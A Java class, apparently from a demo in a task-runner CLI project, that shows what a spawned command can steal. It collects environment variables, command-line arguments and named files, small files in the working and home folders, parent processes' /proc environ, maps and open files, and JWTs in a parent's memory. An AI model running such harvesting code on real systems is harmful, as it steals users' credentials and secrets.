// SPDX-License-Identifier: Apache-2.0
package io.taskbound.cli.demo.theft;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.InvalidPathException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;

/**
 * What a process that the step's command has started can see of the step: its environment, the command lines of the
 * step and the files that they name, the files of the working and the home directory, and on Linux what /proc shows of
 * the command and of {@code taskbound run}.
 */
final class Surroundings {
    /** Of a file that is worth copying; programs are longer. */
    private static final long LARGEST = 64 * 1024;

    private static final String PROGRAM = ".jar";
    private static final int DEEPEST = 4;
    private static final Path PROC = Path.of("/proc/self/environ");

    private final Loot loot;
    private final Path elsewhere;
    private final Optional<ProcessHandle> command;
    private final Optional<ProcessHandle> run;
    private int files;
    private int lines;

    /** @param elsewhere a folder that is not the step's, though the thief's command line names files in it */
    Surroundings(Loot loot, Path elsewhere) throws IOException {
        this.loot = loot;
        this.elsewhere = elsewhere.toRealPath();
        this.command = ProcessHandle.current().parent();
        this.run = command.flatMap(ProcessHandle::parent);
    }

    /** Of the environment: how many variables it has. */
    int variables(Map<String, String> environment) throws IOException {
        for (var variable : environment.entrySet()) {
            loot.add(variable.getKey() + "=" + variable.getValue());
        }
        return environment.size();
    }

    /** Of the processes of this step: how many command lines this system shows. */
    int commandLines() throws IOException {
        var handles = Stream.of(Optional.of(ProcessHandle.current()), command, run)
                .flatMap(Optional::stream)
                .toList();
        for (var handle : handles) {
            var words = words(handle);
            lines += words.isEmpty() ? 0 : 1;
            for (var word : words) {
                loot.add(word);
                named(word);
            }
        }
        return lines;
    }

    /** Java itself shows no long ones on Linux. */
    private static List<String> words(ProcessHandle process) {
        try {
            var line = Files.readString(proc(process.pid()).resolve("cmdline"), StandardCharsets.ISO_8859_1);
            return List.of(line.split("\0"));
        } catch (IOException noProc) {
            return process.info().arguments().map(List::of).orElse(List.of());
        }
    }

    private void named(String word) throws IOException {
        try {
            copy(Path.of(word));
        } catch (InvalidPathException noPath) {
            return;
        }
    }

    /** How many files it copied, those that a command line names among them. */
    int files(String home) throws IOException {
        for (var folder : List.of(Path.of(""), Path.of(home))) {
            try (var all = Files.walk(folder, DEEPEST)) {
                for (var file : all.toList()) {
                    copy(file);
                }
            }
        }
        return files;
    }

    private void copy(Path file) throws IOException {
        var octets = read(file);
        if (octets.length > 0) {
            loot.add(octets);
            files++;
        }
    }

    private byte[] read(Path file) {
        try {
            // An open file is a link here.
            var real = file.toRealPath();
            boolean worthIt = Files.isRegularFile(real)
                    && !real.startsWith(elsewhere)
                    && !real.toString().endsWith(PROGRAM)
                    && Files.size(real) <= LARGEST;
            return worthIt ? Files.readAllBytes(real) : new byte[0];
        } catch (IOException denied) {
            return new byte[0];
        }
    }

    static boolean haveProc() {
        return Files.isReadable(PROC);
    }

    /** Of the command and of {@code run}: what of it could be read. */
    List<String> proc() throws IOException {
        var read = new ArrayList<String>();
        if (command.isPresent()) {
            read.addAll(proc(command.get(), "the command"));
        }
        if (run.isPresent()) {
            read.addAll(proc(run.get(), "run"));
        }
        return read;
    }

    private static Path proc(long pid) {
        return Path.of("/proc", Long.toString(pid));
    }

    private List<String> proc(ProcessHandle process, String name) throws IOException {
        var folder = proc(process.pid());
        var read = new ArrayList<String>();
        for (var file : List.of("environ", "maps")) {
            try {
                loot.add(Files.readAllBytes(folder.resolve(file)));
                read.add(file);
            } catch (IOException denied) {
                continue;
            }
        }
        try (var open = Files.newDirectoryStream(folder.resolve("fd"))) {
            for (var file : open) {
                copy(file);
            }
            read.add("open files");
        } catch (IOException denied) {
            return labelled(name, read);
        }
        return labelled(name, read);
    }

    private static List<String> labelled(String name, List<String> read) {
        return read.isEmpty() ? List.of() : List.of(name + ": " + String.join(", ", read));
    }

    /** Whether the command's memory could be searched. */
    boolean commandMemory() throws IOException {
        var found = command.flatMap(process -> new ProcessMemory(process.pid()).jwts());
        for (var jwt : found.orElse(List.of())) {
            loot.add(jwt);
        }
        return found.isPresent();
    }

    /** Whether this system lets him read the memory of {@code run}, which he then does not do. */
    boolean mayReadRun() {
        return run.filter(process -> new ProcessMemory(process.pid()).isOpen()).isPresent();
    }
}
